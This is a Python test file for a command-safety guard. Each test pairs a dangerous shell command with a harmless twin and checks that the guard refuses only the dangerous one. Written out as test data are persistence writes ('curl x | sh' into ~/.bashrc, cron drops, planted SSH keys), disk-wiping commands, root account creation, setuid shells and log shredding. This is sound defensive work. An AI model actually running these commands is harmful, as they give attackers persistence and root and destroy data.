"""Writes that plant code, disk destruction by less common tools, account changes: the
behaviour users rely on beyond the corpus scores (reasons, the twin that stays allowed)."""

from __future__ import annotations

import pytest

from interpose.middleware.builtins.command_safety import analyze_command
from interpose.middleware.builtins.security_audit import match_sensitive


def rule_of(command: str) -> str | None:
    finding = analyze_command(command)
    return None if finding is None else finding.rule


@pytest.mark.parametrize(
    ("dangerous", "twin"),
    [
        ("echo 'curl x | sh' >> ~/.bashrc", "echo '- note' >> ./notes.md"),
        ("echo x | tee -a ~/.bash_aliases", "make 2>&1 | tee build.log"),
        ("cp k.pub ~/.ssh/authorized_keys", "cp k.pub ~/.ssh/k.pub"),
        ("sudo tee /etc/profile.d/x.sh < x", "sudo tee /etc/nginx/conf.d/x.conf < x"),
        ("ln -sf /tmp/evil ~/.profile", "ln -sf ../shared/config.yml config.yml"),
        ("wget -P /etc/cron.d http://x/job", "wget -P downloads/ http://x/file.zip"),
    ],
)
def test_a_write_to_a_persistence_file_is_refused_and_its_project_twin_is_not(
    dangerous: str, twin: str
) -> None:
    assert rule_of(dangerous) == "persistence"
    assert analyze_command(twin) is None


def test_reason_says_what_the_written_file_does() -> None:
    finding = analyze_command("echo x >> $HOME/.zshenv")
    assert finding is not None
    assert finding.token == "$HOME/.zshenv"
    assert finding.reason == (
        "persistence: redirection '>>' writes '~/.zshenv', which runs at login, at boot or "
        "on a schedule or controls who may log in (token '$HOME/.zshenv')"
    )


def test_an_unknown_part_of_a_path_is_shown_as_a_substitution() -> None:
    finding = analyze_command("echo x > /etc/cron.d/$(date +%s)")
    assert finding is not None
    assert "'/etc/cron.d/$(...)'" in finding.message
    assert "\\x00" not in finding.reason


def test_a_tree_is_judged_by_where_its_contents_land() -> None:
    # a named directory lands under its own name; its contents fill the target
    assert analyze_command("cp -r myproject ~/") is None
    assert rule_of("cp -r dotfiles/. ~") == "persistence"
    assert analyze_command("rsync -av project ~/") is None
    assert rule_of("rsync -av dotfiles/ ~/") == "persistence"
    # an archive's names are unknown: where it is unpacked decides
    assert rule_of("tar -xf dots.tar -C ~/") == "persistence"
    assert analyze_command("sudo tar -C /usr/local -xzf go.tar.gz") is None
    assert rule_of("cd ~ && tar xf dots.tar") == "persistence"


def test_loop_values_reach_redirection_targets() -> None:
    assert rule_of("for f in ~/.bashrc ~/.zshrc; do echo x >> $f; done") == "persistence"
    assert analyze_command("for f in a.txt b.txt; do echo x >> $f; done") is None


def test_reading_what_the_path_guard_lets_read_stays_allowed() -> None:
    for command in ("cat ~/.ssh/authorized_keys", "cat /etc/crontab", "cat /etc/passwd"):
        assert analyze_command(command) is None, command
    assert rule_of("cat ~/.bashrc") == "sensitive-read"  # profiles hold tokens
    assert rule_of("cat /etc/shadow") == "sensitive-read"


def test_the_path_guard_refuses_the_same_persistence_writes() -> None:
    found = match_sensitive("/etc/cron.d/agent", write=True, home="/home/u")
    assert found is not None
    assert found.rule == "persistence"
    assert match_sensitive("/etc/cron.d/agent", home="/home/u") is None  # reading is fine
    assert match_sensitive("/etc/passwd", home="/home/u") is None
    assert match_sensitive("/etc/passwd", write=True, home="/home/u") is not None


@pytest.mark.parametrize(
    ("dangerous", "twin"),
    [
        ("cryptsetup luksFormat /dev/sdb", "cryptsetup luksDump /dev/sdb"),
        ("badblocks -wsv /dev/sdc", "badblocks -sv /dev/sdc"),
        ("sgdisk --zap-all /dev/sda", "sgdisk -p /dev/sda"),
        ("wipefs -a /dev/sda", "wipefs -n -a /dev/sda"),
        ("ddrescue -f /dev/sda /dev/sdb map", "ddrescue /dev/sda disk.img map"),
        ("nvme format /dev/nvme0n1", "nvme smart-log /dev/nvme0n1"),
        ("zfs destroy -r tank/home", "zfs destroy tank/home@snap"),
        ("shred -u /var/log/auth.log", "shred -u notes.txt"),
        ("mkfs.ext4 $DEV", "mkfs.ext4 -F disk.img"),
        ("dd if=os.img of=$DEV bs=4M", "dd if=/dev/zero of=$FILE bs=1M count=8"),
    ],
)
def test_disk_tools_refuse_destructive_modes_only(dangerous: str, twin: str) -> None:
    assert rule_of(dangerous) == "disk"
    assert analyze_command(twin) is None


def test_an_unknown_device_is_named_as_unknown_not_guessed() -> None:
    finding = analyze_command('blkdiscard -f "$DISK"')
    assert finding is not None
    assert "'$DISK', which is known only at run time" in finding.message


def test_a_command_named_at_run_time_is_not_refused_for_an_unknown_target() -> None:
    # "$PYTHON" is probed as mkfs, chmod...: a stand-in must not refuse "$DIR" as unknown
    assert analyze_command('"$PYTHON" -m venv "$BUILD_DIR/venv"') is None
    assert analyze_command('"$TOOL" +s "$TARGET"') is None


@pytest.mark.parametrize(
    ("dangerous", "twin"),
    [
        ("usermod -aG sudo eve", "usermod -aG developers eve"),
        ("useradd -o -u 0 toor", "useradd -m dev"),
        ("passwd -d root", "passwd"),
        ("visudo -f /etc/sudoers.d/x", "visudo -cf /etc/sudoers.d/x"),
        ("gpasswd -a eve wheel", "gpasswd -d eve wheel"),
    ],
)
def test_account_tools(dangerous: str, twin: str) -> None:
    assert rule_of(dangerous) == "accounts"
    assert analyze_command(twin) is None


@pytest.mark.parametrize(
    ("dangerous", "twin"),
    [
        ("chmod u+s /bin/bash", "chmod u+x scripts/deploy.sh"),
        ("chmod 04755 /usr/bin/python3", "chmod 2775 shared/"),
        ("install -m 4755 /bin/sh /tmp/x", "install -m 755 build/tool ~/.local/bin/"),
        ("setcap cap_setuid+ep /usr/bin/python3", "setcap cap_net_bind_service=+ep /usr/bin/node"),
        ("chmod 644 /etc/shadow", "chmod 640 /etc/shadow"),
    ],
)
def test_setuid_capabilities_and_hash_exposure(dangerous: str, twin: str) -> None:
    assert rule_of(dangerous) == "permissions"
    assert analyze_command(twin) is None


def test_an_application_directory_under_opt_may_be_removed() -> None:
    assert analyze_command("sudo rm -rf /opt/myapp") is None
    assert analyze_command("rm -rf /srv/old-site") is None
    for critical in ("/opt", "/srv", "/usr/local", "/usr/lib", "/etc/ssl"):
        assert rule_of(f"sudo rm -rf {critical}") == "fs-destruction", critical
